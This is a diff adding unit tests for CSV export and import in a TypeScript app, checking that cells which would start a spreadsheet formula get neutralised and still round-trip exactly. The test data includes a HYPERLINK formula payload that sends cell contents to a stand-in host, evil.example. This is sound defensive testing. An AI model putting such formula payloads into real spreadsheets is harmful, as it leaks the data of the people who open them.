@@ -6,6 +6,7 @@ import type { FieldDefinition } from "../../resources/types";
 import { fromCell, toCell } from "./cells";
 import { ExportCancelled, exportCsv, exportFileName, UTF8_BOM } from "./exportCsv";
 import { guessMapping, importFields, mappingIsUsable, mappingProblems } from "./mapping";
+import { parseCsvText } from "./parseFile";
 import { readRows } from "./validate";
 
 const products = getResource("products");
@@ -39,6 +40,47 @@ describe("cells", () => {
     const blocked = getResource("customers").fields.find((f) => f.name === "is_blocked") as FieldDefinition;
     expect(fromCell(blocked, "Ja", cellMessage)).toEqual({ value: true });
     expect(fromCell(blocked, "maybe", cellMessage)).toEqual({ problem: "Blocked: not a boolean" });
+  });
+});
+
+describe("formula cells (CSV injection)", () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?"&B2,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tindented",
+    "\rreturn",
+    "'=already quoted",
+    "''+twice",
+    "'plain apostrophe",
+    "plain",
+  ];
+
+  it("neutralises text a spreadsheet would run, and leaves genuine numbers their value", () => {
+    expect(toCell(field("name"), { name: hostile[0] })).toBe(`'${hostile[0]}`);
+    expect(toCell(field("name"), { name: "@SUM(A1:A2)" })).toBe("'@SUM(A1:A2)");
+    expect(toCell(field("name"), { name: "'=already quoted" })).toBe("''=already quoted");
+    expect(toCell(field("name"), { name: "'plain apostrophe" })).toBe("'plain apostrophe");
+    expect(toCell(field("tags"), { tags: ["-x", "y"] })).toBe("'-x; y");
+    expect(toCell(field("category_id"), { category_id: 1, categories: { name: "=cat" } })).toBe("'=cat");
+    expect(toCell(field("price"), { price: -12.5 })).toBe("-12.5");
+    expect(toCell(field("stock"), { stock: -3 })).toBe("-3");
+  });
+
+  it("reads back exactly what was exported, through a real CSV file", () => {
+    const name = field("name");
+    const price = field("price");
+    const rows = hostile.map((text, i) => ({ name: text, price: i % 2 === 0 ? -12.5 : 3 }));
+    const csv = Papa.unparse([["Name", "Price"], ...rows.map((row) => [toCell(name, row), toCell(price, row)])]);
+    // The file as a spreadsheet sees it: nothing starts a formula.
+    for (const line of csv.split("\r\n").slice(1)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
+    const { records } = parseCsvText(csv);
+    const back = records.map((record) => ({
+      name: fromCell(name, record.Name, cellMessage),
+      price: fromCell(price, record.Price, cellMessage),
+    }));
+    expect(back).toEqual(rows.map((row) => ({ name: { value: row.name }, price: { value: row.price } })));
   });
 });
 
